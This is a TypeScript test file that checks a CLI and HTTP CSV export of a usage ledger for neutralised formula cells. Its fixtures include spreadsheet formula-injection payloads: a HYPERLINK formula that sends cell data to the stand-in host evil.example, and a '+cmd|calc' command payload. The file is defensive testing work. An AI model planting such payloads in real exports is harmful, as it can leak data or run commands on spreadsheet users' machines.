import assert from 'node:assert/strict';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { PROJECT_ROOT, runCli } from '../../helpers/run-cli.js';
import { seedEveryKindOfRow } from '../../helpers/seed-ledger.js';
import { serveApi, type ServedGateway } from '../../helpers/serve-api.js';
import { makeTempDir } from '../../helpers/temp-tree.js';

const NOW = '2026-11-20T12:00:00.000Z';
const FIXTURE = path.join(PROJECT_ROOT, 'fixtures', 'retrieval', 'inventory-service');
const MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

/** Parse RFC 4180 CSV (quoted fields, doubled quotes, CR/LF inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index]!;
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') ((field += '"'), index++);
      else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') (row.push(field), (field = ''));
    else if (char === '\n') (row.push(field), rows.push(row), (row = []), (field = ''));
    else field += char;
  }
  return rows;
}

describe('CSV export neutralises cells starting with = + - @ (CLI and HTTP)', () => {
  const dataDir = makeTempDir('codecontext-csv-');
  const args = ['--root', FIXTURE, '--data-dir', dataDir];
  let served: ServedGateway;
  before(async () => {
    // A drop-in client chose the model names; one call was refunded (a negative cost is a number, not a formula).
    await seedEveryKindOfRow(dataDir, {
      evil: {
        request: {
          created_at: '2026-11-19T10:00:00.000Z',
          source: 'api',
          surface: 'chat-completions',
          status: 'completed',
          route: 'external',
          provider: 'llm_client',
          model: MODEL,
          requested_model: MODEL,
        },
        calls: [
          {
            role: 'first',
            provider: '@SUM(1,2)',
            model: MODEL,
            http_status: 200,
            error_class: '-1+2',
            usage_source: 'provider',
            usage_format: '+cmd|calc',
            input_tokens: 10,
            cost_usd: -0.004,
            cost_is_estimate: 0,
          },
        ],
      },
    });
    served = await serveApi(args, { CODECONTEXT_NOW: NOW });
  });
  after(() => {
    served?.child.kill('SIGTERM');
  });

  it('every text cell that would start a formula gets a quote; numbers stay numbers; CLI and HTTP agree', async () => {
    const cli = await runCli(['usage-ledger-report', ...args, '--format', 'csv'], { env: { CODECONTEXT_NOW: NOW } });
    assert.equal(cli.exitCode, 0, cli.stderr);
    const http = await fetch(`${served.url}/usage-ledger?format=csv`).then((response) => response.text());
    assert.equal(http, cli.stdout);
    const [header, row] = parseCsv(cli.stdout);
    const cell = (name: string): string => row![header!.indexOf(name)]!;
    assert.equal(cell('model'), `'${MODEL}`);
    assert.equal(cell('provider'), "'@SUM(1,2)");
    assert.equal(cell('error_class'), "'-1+2");
    assert.equal(cell('usage_format'), "'+cmd|calc");
    assert.equal(cell('cost_usd'), '-0.004');
    assert.equal(cell('input_tokens'), '10');
    for (const value of row!) assert.doesNotMatch(value, /^[=+@\t\r]/, `no cell starts a formula: ${value}`);
    const all = await runCli(['usage-ledger-report', ...args, '--format', 'csv', '--all'], {
      env: { CODECONTEXT_NOW: NOW },
    });
    assert.equal(all.stdout, cli.stdout, 'the streamed export writes the same cells');
  });
});
